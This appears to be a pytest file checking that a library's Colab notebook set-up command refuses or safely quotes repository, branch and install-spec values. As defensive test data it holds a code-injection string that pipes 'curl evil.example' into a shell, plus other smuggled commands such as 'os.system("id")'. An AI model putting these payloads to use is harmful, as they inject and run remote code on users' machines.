"""Nothing typed into ``python -m sbertlib colab`` becomes code in a notebook's set-up cell.

The set-up cell runs when a student opens the notebook on Colab. ``--repo`` and ``--branch`` (and the
install spec made of them) are validated, refused with one line naming the option and the value
(exit 2) otherwise, and written with ``repr()`` even when accepted: a property-style test feeds odd
but valid values, and random hostile ones, and parses every cell that results.
"""
from __future__ import annotations

import ast
import random
import shutil
from pathlib import Path

import nbformat
import pytest

from sbertlib.cli import colab as colab_cli
from sbertlib.workbook import colab

ROOT = Path(__file__).resolve().parents[1]
ATTACK = 'main\'\nimport os; os.system("curl evil.example | sh")\n#'     # the exact attack
CALLS = {"importlib.util.find_spec", "os.environ.get", "subprocess.run"}
NAMES = {"importlib", "os", "subprocess", "sys", "spec"}


def _cell_shape(source: str) -> tuple[set[str], set[str], list[str]]:
    """(the calls a cell makes, the names it reads, its string constants)."""
    tree = ast.parse(source)
    calls = {ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)}
    names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Load)}
    strings = [n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)]
    return calls, names, strings


def _assert_safe(repo: str, branch: str) -> None:
    source = colab.setup_source(repo, branch)
    calls, names, strings = _cell_shape(source)
    assert calls == CALLS and names == NAMES, source
    assert colab.install_spec(repo, branch) in strings
    assert [type(n).__name__ for n in ast.parse(source).body] == ["Import", "If"]


@pytest.fixture
def notebook_copy(tmp_path) -> Path:
    folder = tmp_path / "notebooks"
    folder.mkdir()
    for name in ("00_setup_and_tour.ipynb", "04_sts_evaluation.ipynb"):
        shutil.copy(ROOT / "notebooks" / name, folder / name)
    return folder


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_the_attack_on_branch_is_refused_in_one_line_and_nothing_changes(notebook_copy, capsys):
    before = _snapshot(notebook_copy)
    assert colab_cli.main(["--branch", ATTACK, "--notebooks", str(notebook_copy)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("python -m sbertlib colab: error: --branch ")
    assert repr(ATTACK) in err and "Traceback" not in err
    assert _snapshot(notebook_copy) == before
    for call in (lambda: colab.setup_source(branch=ATTACK), lambda: colab.install_spec(branch=ATTACK),
                 lambda: colab.apply(notebook_copy, branch=ATTACK), lambda: colab.badge("00.ipynb", branch=ATTACK)):
        with pytest.raises(ValueError, match="--branch"):
            call()
    assert _snapshot(notebook_copy) == before


@pytest.mark.parametrize("repo", ['o/n"); os.system("id"); ("', "o/n\nimport os", "o/n@evil", "o/n'",
                                  "https://evil.example/o/n", "https://github.com/o/n/tree/x", "o/..", "-o/n",
                                  "o", "o/n/m", "o /n", ""])
def test_a_bad_repo_is_refused_in_one_line(repo, notebook_copy, capsys):
    before = _snapshot(notebook_copy)
    assert colab_cli.main([f"--repo={repo}", "--notebooks", str(notebook_copy)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"error: --repo {repo!r}" in err
    assert _snapshot(notebook_copy) == before


@pytest.mark.parametrize("branch", ["a..b", "x.lock", "dev/.hidden", "a//b", "/x", "x/", "x.", "-x", "a b", "a@{1}",
                                    "x#egg=y", "a'b", 'a"b', "a\\b", "a;b", "a\tb", "a~1", "a^", "a:b", "a?b", "a*",
                                    "a[b", "é", ""])
def test_a_bad_branch_is_refused(branch):
    with pytest.raises(ValueError, match=r"--branch "):
        colab.check_branch(branch)


ODD_BUT_VALID = [
    ("sbert-workbook/sbert-workbook", "main"),
    ("A-1/x.y_z-", "feature/x-1.2+build"),
    ("someone/fork", "release/2026.11/rc1"),
    ("o/n", "v1.0.0"),
    ("o/.n", "_"),
    ("o/n", "HEAD2"),
    ("https://github.com/o-1/n.x.git", "a+b"),
    ("github.com/o/n/", "x" * 255),
]


@pytest.mark.parametrize("repo, branch", ODD_BUT_VALID)
def test_odd_but_valid_values_make_a_cell_with_only_the_expected_calls(repo, branch):
    _assert_safe(repo, branch)
    assert f"/blob/{branch}/notebooks/" in colab.badge("00_setup_and_tour.ipynb", repo, branch)


def test_random_values_are_refused_or_written_as_data():
    """Property: a value is refused, or the cell it makes parses to the same calls, names and statements."""
    rng = random.Random(2026)
    valid_chars = "abcXYZ019._-/+"
    hostile_chars = valid_chars + "'\"\\\n\r\t ;#@{}()[]~^:?*$`|&<>=,%!é\u2028\x00\x7f"
    accepted = refused = 0
    for k in range(3000):
        chars = valid_chars if k % 2 else hostile_chars
        branch = "".join(rng.choice(chars) for _ in range(rng.randint(1, 24)))
        repo = rng.choice(["o/n", "o-1/n.x", "".join(rng.choice(hostile_chars) for _ in range(rng.randint(3, 12)))])
        try:
            colab.check_repo(repo), colab.check_branch(branch)
        except ValueError:
            refused += 1
            with pytest.raises(ValueError):
                colab.setup_source(repo, branch)
            continue
        accepted += 1
        assert not set(branch) - set(valid_chars)
        _assert_safe(repo, branch)
    assert accepted > 300 and refused > 300, (accepted, refused)


def test_a_github_address_is_taken_as_owner_and_name(notebook_copy, capsys):
    assert colab_cli.main(["--repo", "https://github.com/someone/fork.git", "--branch", "dev/x",
                           "--notebooks", str(notebook_copy)]) == 0
    nb = nbformat.read(notebook_copy / "04_sts_evaluation.ipynb", as_version=4)
    assert "github/someone/fork/blob/dev/x/notebooks/04_sts_evaluation.ipynb" in nb.cells[0].source
    assert nb.cells[1].source == colab.setup_source("someone/fork", "dev/x")
    assert "someone/fork" in capsys.readouterr().out


@pytest.mark.parametrize("spec", ["sbertlib[workbook,search,offline] @ git+https://github.com/o/n@main", "sbertlib==0.3",
                                  "sbertlib[workbook] @ file:///tmp/sbertlib-0.1-py3-none-any.whl",
                                  "https://example.org/sbertlib-0.1-py3-none-any.whl"])
def test_install_specs_that_are_one_requirement_or_url(spec):
    assert colab.check_install_spec(spec) == spec


@pytest.mark.parametrize("spec", ["sbertlib'; import os", "a\nb", "--index-url=http://evil", "a b", 'x"', "a;b",
                                  "sbertlib @ git+https://github.com/o/n@main\nimport os", ""])
def test_install_specs_with_anything_else_are_refused(spec):
    with pytest.raises(ValueError, match="install spec"):
        colab.check_install_spec(spec)
